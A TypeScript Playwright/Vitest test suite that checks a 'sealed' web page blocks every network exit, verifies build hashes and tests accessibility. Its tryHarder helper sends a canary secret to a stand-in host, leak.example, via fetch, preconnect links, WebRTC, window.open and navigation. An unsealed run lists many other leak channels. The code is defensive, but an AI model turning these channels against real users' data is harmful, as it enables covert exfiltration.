import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchSealed } from '../support/serve-sealed.mjs'
import { fromBlobWorker, fromServiceWorker } from '../support/ways-from-workers.mjs'
import { waysTable, type Tried } from '../support/ways-table'

type Sealed = Awaited<ReturnType<typeof launchSealed>>

/** Ways that Prove it can't try itself, tried from outside with a secret in them; the last takes the page away. */
async function tryHarder(page: Page, udpPort: number) {
  await page.evaluate(async (port) => {
    const secret = 'canary-5f1d'
    const send = (work: () => unknown) =>
      Promise.resolve()
        .then(work)
        .catch(() => undefined)
    await send(() => fetch(`http://leak.example/${secret}`, { mode: 'no-cors', method: 'POST', body: secret }))
    for (const rel of ['preconnect', 'dns-prefetch'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: `https://${secret}.example/` }))
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel(secret)
    await connection.setLocalDescription()
    window.open(`http://leak.example/window-${secret}`)
  }, udpPort)
  await page.waitForTimeout(1500)
  await page.evaluate(() => setTimeout(() => (location.href = 'http://leak.example/navigation-canary-5f1d')))
  await page.waitForTimeout(1500)
}

describe('the sealed page', () => {
  let sealed: Sealed
  const tried: Tried[] = []
  beforeAll(async () => {
    sealed = await launchSealed()
    await sealed.ready()
  })
  afterAll(() => sealed.close())

  test('loads from its own host alone, and only once', () => {
    expect(sealed.requests.length).toBeGreaterThan(5)
    expect(sealed.foreign()).toEqual([])
    expect(sealed.arrivals).toEqual([])
    expect(sealed.navigations()).toBe(1)
    const pages = sealed.server.requests.filter(
      ({ path, headers }) => path === '/' && headers['sec-fetch-mode'] === 'navigate',
    )
    expect(pages).toHaveLength(1)
  })

  test('stops every way out, from the page and from a worker', async () => {
    await sealed.stored()
    const asked = sealed.server.requests.length
    const results = await sealed.proveIt()
    expect(results.filter(({ verdict }) => verdict === 'open')).toEqual([])
    for (const { id, where, verdict } of results)
      if (verdict === 'blocked') tried.push({ way: id!, where: where === 'page' ? 'page' : 'worker' })
    const blocked = (where: string) => results.filter((r) => r.where === where && r.verdict === 'blocked')
    expect(blocked('page').length).toBeGreaterThanOrEqual(16)
    expect(blocked('worker').length).toBeGreaterThanOrEqual(7)
    expect(results.filter(({ verdict }) => verdict === 'untried').map(({ id }) => id)).toEqual([
      'navigation',
      'window-open',
      'preconnect',
    ])
    // Not even its own host hears of it: the service worker refused what is no file of the program.
    expect(await sealed.page.locator('[data-own-host]').getAttribute('data-own-host')).toBe('refused')
    expect(sealed.server.requests.slice(asked)).toEqual([])
    expect(sealed.arrivals).toEqual([])
  })

  test('says so, and shows the policy in force', async () => {
    expect(await sealed.page.locator('[data-sealed]').getAttribute('data-sealed')).toBe('true')
    await sealed.page.getByText('The policy in force').click()
    const policy = sealed.page.locator('details')
    expect(await policy.innerText()).toContain("default-src 'none'")
    expect(await policy.innerText()).toContain('(response-origin)')
  })

  test('finds its files as they were built, and names the one figure that stands for them', async () => {
    await sealed.page.getByRole('button', { name: 'Check all files' }).click()
    await sealed.page.locator('[data-build]').waitFor({ state: 'attached', timeout: 60_000 })
    expect(await sealed.page.locator('[data-build]').getAttribute('data-build')).toBe('same')
    const list = readFileSync(join(import.meta.dirname, '../../dist/SHA256SUMS'))
    const print = await sealed.page.locator('[data-fingerprint]').innerText()
    expect(print).toBe(createHash('sha256').update(list).digest('hex'))
    expect(sealed.arrivals).toEqual([])
  })

  test('is readable to everyone, in light and dark', async () => {
    await sealed.page.evaluate(readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8'))
    for (const colorScheme of ['light', 'dark'] as const) {
      await sealed.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      const findings = await sealed.page.evaluate(async () => {
        const { axe } = window as unknown as { axe: { run(root: string): Promise<{ violations: { id: string }[] }> } }
        return (await axe.run('dialog')).violations.map(({ id }) => id)
      })
      expect(findings, colorScheme).toEqual([])
    }
  })

  test('gives the focus back when it is closed by key', async () => {
    await sealed.page.keyboard.press('Escape')
    await sealed.page.locator('dialog').waitFor({ state: 'detached' })
    expect(await sealed.page.evaluate(() => document.activeElement?.textContent)).toMatch(/Prove it|since load/)
  })

  test('lets nothing out by the ways that can’t be tried from inside, nor by being taken elsewhere', async () => {
    for (const way of await fromBlobWorker(sealed.page)) tried.push({ way, where: 'blob' })
    for (const way of await fromServiceWorker(sealed.context)) tried.push({ way, where: 'service' })
    await tryHarder(sealed.page, sealed.listener.udpPort)
    for (const way of ['preconnect', 'dns-prefetch', 'window-open', 'navigation']) tried.push({ way, where: 'page' })
    expect(sealed.arrivals).toEqual([])
    expect(await sealed.leaks(['no such text'])).toEqual([])
  })

  test('is what the table of ways out says', async () => {
    const ways = new Set(tried.map(({ way }) => way))
    expect(ways.size).toBeGreaterThanOrEqual(25)
    await expect(waysTable(tried)).toMatchFileSnapshot('../../src/seal/WAYS-OUT.md')
  })
})

test('without the seal the same attempts arrive, so the listener would have heard them', async () => {
  const open = await launchSealed({ seal: false })
  try {
    await open.ready()
    const results = await open.proveIt()
    const isOpen = (id: string, where: string) =>
      results.some((result) => result.id === id && result.where === where && result.verdict === 'open')
    for (const id of [
      'fetch',
      'xhr',
      'websocket',
      'eventsource',
      'import',
      'beacon',
      'image',
      'css-image',
      'font',
      'form',
    ])
      expect(isOpen(id, 'page'), id).toBe(true)
    for (const id of ['fetch', 'xhr', 'websocket', 'eventsource', 'import', 'import-scripts'])
      expect(isOpen(id, 'worker'), id).toBe(true)
    expect(await open.page.locator('[data-sealed]').getAttribute('data-sealed')).toBe('false')
    await open.page.keyboard.press('Escape')
    expect(await fromBlobWorker(open.page)).toContain('fetch')
    await expect.poll(() => open.arrivals.some(({ text }) => text.includes('-blob.leak.example'))).toBe(true)
    await tryHarder(open.page, open.listener.udpPort)
    expect(new Set(open.arrivals.map(({ protocol }) => protocol))).toEqual(new Set(['tls', 'http', 'websocket', 'udp']))
    const heard = (await open.leaks(['canary-5f1d'])).filter((leak) => leak.startsWith('foreign host'))
    expect(heard.some((leak) => leak.includes('navigation-'))).toBe(true)
    expect(heard.some((leak) => leak.includes('window-'))).toBe(true)
  } finally {
    await open.close()
  }
})
